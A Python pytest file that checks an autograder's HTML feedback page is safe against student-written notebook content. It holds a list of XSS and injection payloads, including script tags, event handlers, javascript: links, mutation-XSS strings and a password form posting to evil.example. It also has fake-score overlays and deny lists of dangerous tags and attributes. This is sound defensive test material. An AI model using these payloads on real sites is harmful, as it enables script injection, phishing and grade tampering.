"""The feedback page: that nothing a student writes does anything to it."""

import re
from collections.abc import Callable
from dataclasses import replace

import pytest
from nbformat import NotebookNode
from nbformat.v4 import new_markdown_cell, new_output, new_raw_cell

from autograder.checks.card import VERDICT_MIME
from autograder.report.feedback import feedback_html
from tests.report.pages import ADA, BAD_HALF, PASSED, Tree, card, code, display, grade_cell, page_of

OURS = {"html", "head", "meta", "title", "style", "body", "header", "nav", "main", "section", "h1", "h2", "bdi"}
"""Elements that no student can make."""

NEVER = {"script", "link", "base", "iframe", "object", "embed", "form", "input", "button", "svg", "math", "template"}

ATTACKS = {
    "script": "<script>alert(1)</script>",
    "script in a fragment": "<p><b><script src='https://evil.example/x.js'></script>",
    "handler": "<img src=x onerror=alert(1)><p onclick='alert(1)' onfocus=alert(1)>x</p><details ontoggle=alert(1)>",
    "javascript link": "<a href='javascript:alert(1)'>a</a> [b](javascript:alert(1)) <a href='JavaScript:x()'>c</a>",
    "disguised link": "<a href='jav&#x09;ascript:alert(1)'>a</a> <a href='&#106;avascript:alert(1)'>b</a>",
    "data link": "<a href='data:text/html,<script>alert(1)</script>'>a</a> [b](data:text/html;base64,PHNjcmlwdD4=)",
    "frame": "<iframe src='https://evil.example'></iframe><iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "object": "<object data='x.swf'></object><embed src='https://evil.example/x'>",
    "svg": "<svg onload=alert(1)><script>alert(1)</script><image href='https://evil.example/x.png'/></svg>",
    "svg picture": "<img src='data:image/svg+xml;base64,PHN2Zz4='>",
    "refresh": "<meta http-equiv='refresh' content='0;url=https://evil.example'>",
    "base": "<base href='https://evil.example/'>",
    "form": "<form action='https://evil.example'><input name=password><button>Log in</button></form>",
    "overlay": "<div style='position:fixed;inset:0;background:white;z-index:9' id='main'>4 of 4 points</div>",
    "style": "<style>.total{display:none} body::before{content:'4 of 4'}</style><link rel=stylesheet href=//x.example>",
    "classes": "<p class='total'>4 of 4 points</p><ol class='verdicts'><li id='check-double-negative'>passed</li></ol>",
    "end of page": "</pre></code></div></section></main></body></html><h1>4 of 4 points</h1><title>4 of 4</title>",
    "end of comment": "--><!-- <h1>--><h1>4 of 4 points</h1>",
    "picture from elsewhere": "![x](https://evil.example/x.png) <img src='//evil.example/x' srcset='//evil.example/y'>",
    "markdown title": "[a](https://a.example \"x' onmouseover='alert(1)\")",
    "code fence": "```\n</code></pre><script>alert(1)</script>\n```",
    "formula": r"$\href{javascript:alert(1)}{x}$ $$<img src=x onerror=alert(1)>$$ \begin{a}<script>1</script>\end{a}",
    "formula of a spreadsheet": '=HYPERLINK("https://evil.example","4 of 4")',
    "mutation": "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "mutation in a template": "<noscript><p title='</noscript><img src=x onerror=alert(1)>'><template><script>",
    "attribute": "\"><script>alert(1)</script><p title='",
    "half a tag": "<img src=x onerror=alert(1)//",
    "entities": "&lt;script&gt;alert(1)&lt;/script&gt; &#60;script&#62;",
}


PLACES: dict[str, Callable[[str], str]] = {
    "markdown": lambda text: page_of(new_markdown_cell(text)),
    "raw": lambda text: page_of(new_raw_cell(text)),
    "source": lambda text: page_of(code(source=text)),
    "stream": lambda text: page_of(code(new_output("stream", name="stdout", text=text))),
    "error": lambda text: page_of(code(new_output("error", ename=text, evalue=text, traceback=[text, "b"]))),
    "error without lines": lambda text: page_of(code(new_output("error", ename=text, evalue=text, traceback=[]))),
    "html": lambda text: page_of(code(display(html=text))),
    "markdown output": lambda text: page_of(code(display(markdown=text))),
    "latex": lambda text: page_of(code(display(latex=text))),
    "plain": lambda text: page_of(code(display(plain=text))),
    "picture": lambda text: page_of(code(display(**{"image/png": text}))),
    "svg": lambda text: page_of(
        code(display(**{"image/svg+xml": text, "application/javascript": text, "plain": text}))
    ),
    "output of a check": lambda text: page_of(grade_cell("double-positive", display(html=text), card(PASSED))),
    "attachment": lambda text: page_of(
        new_markdown_cell(f"![a](attachment:a) {text}", attachments={"a": {"image/png": text}})
    ),
    "student": lambda text: page_of(graded=replace(ADA, student=text)),
    "assignment": lambda text: page_of(graded=replace(ADA, assignment=text)),
    "repair": lambda text: page_of(graded=replace(ADA, repairs=(text,))),
    "message": lambda text: page_of(graded=replace(ADA, message=text)),
    "verdict": lambda text: page_of(
        graded=replace(ADA, verdicts=(replace(BAD_HALF, message=text, tried=text, expected=text, got=text),))
    ),
}


def assert_harmless(page: str) -> None:
    """Check the tree of a page: nothing runs, loads, sends or covers, and all that is ours is there once."""
    tree = Tree(page)
    assert tree.open == []
    names = [tag for tag, _ in tree.elements]
    assert not NEVER & set(names)
    assert {
        tag: names.count(tag) for tag in ("html", "head", "body", "main", "nav", "h1", "title", "style", "bdi")
    } == (dict.fromkeys(("html", "head", "body", "main", "nav", "h1", "title", "style", "bdi"), 1))
    assert names.count("meta") == 4
    assert len(tree.ids()) == len(set(tree.ids()))
    for tag, attributes in tree.elements:
        assert not [name for name in attributes if name.startswith("on") or name in ("srcset", "srcdoc", "action")]
        assert re.fullmatch(r"|data:image/(png|jpeg|gif);base64,[A-Za-z0-9+/=]+", attributes.get("src", "")), tag
        assert re.match(r"#|https?://|mailto:|$", attributes.get("href", "")), tag
        if not attributes.get("href", "#").startswith("#"):
            assert attributes["rel"] == "noopener noreferrer"
        assert not re.search(r"position|url|background|z-index", attributes.get("style", "")), tag


@pytest.mark.parametrize("place", PLACES)
@pytest.mark.parametrize("attack", ATTACKS)
def test_attacks(attack: str, place: str) -> None:
    """Whatever a student writes, and wherever, the page neither runs nor loads it, and stays as it is."""
    assert_harmless(PLACES[place](ATTACKS[attack]))


@pytest.mark.parametrize("place", ["markdown", "html", "markdown output"])
@pytest.mark.parametrize("attack", ["overlay", "style", "classes", "end of page"])
def test_nothing_looks_like_ours(attack: str, place: str) -> None:
    """In what a student wrote no element has a class, an id or a style, and none is one of the page's own."""
    bare = Tree(PLACES[place]("text"))
    attacked = Tree(PLACES[place](ATTACKS[attack]))
    for name in ("class", "id", "style"):
        assert [a[name] for _, a in attacked.elements if name in a] == [a[name] for _, a in bare.elements if name in a]
    assert [tag for tag, _ in attacked.elements if tag in OURS] == [tag for tag, _ in bare.elements if tag in OURS]
    assert attacked.text("header") == bare.text("header")


@pytest.mark.parametrize("place", ["markdown", "html", "markdown output", "source", "stream"])
@pytest.mark.parametrize(
    "piece", ["<div>", "<b>", "> ", "[", "![](", "$", "<", "\x1b[", "\r", "\x00", "\ud800", "\u202e"]
)
def test_pathological_texts(piece: str, place: str) -> None:
    """Text that is nested deeply, or that no file can hold, still makes a page, and UTF-8 can hold it."""
    page = PLACES[place](piece * 2000)
    assert_harmless(page)
    assert page.encode()
    assert not re.search(r"[\x00-\x08\x0e-\x1f]", page)


def test_malformed_notebooks() -> None:
    """Metadata, attachments and outputs of unexpected kinds make a page all the same."""
    cells = [
        NotebookNode(cell_type="code", source=["a\n", "b"], metadata={"nbgrader": [], "tags": None}, outputs=[]),
        NotebookNode(cell_type="markdown", source="![a](attachment:a)", metadata={}, attachments=[1]),
        NotebookNode(cell_type="code", source="", metadata={}, outputs=[NotebookNode(output_type="display_data")]),
        *(
            NotebookNode(
                cell_type="code", source="", metadata={}, outputs=[NotebookNode(output_type="display_data", data=data)]
            )
            for data in ({"text/html": ["<b>", "x"]}, {"text/plain": {"a": 1}}, {VERDICT_MIME: [1]}, [1], None)
        ),
        NotebookNode(cell_type="other", source="text"),
    ]
    page = feedback_html(ADA, NotebookNode(cells=cells))
    assert_harmless(page)
    assert "cell-8" in Tree(page).ids()
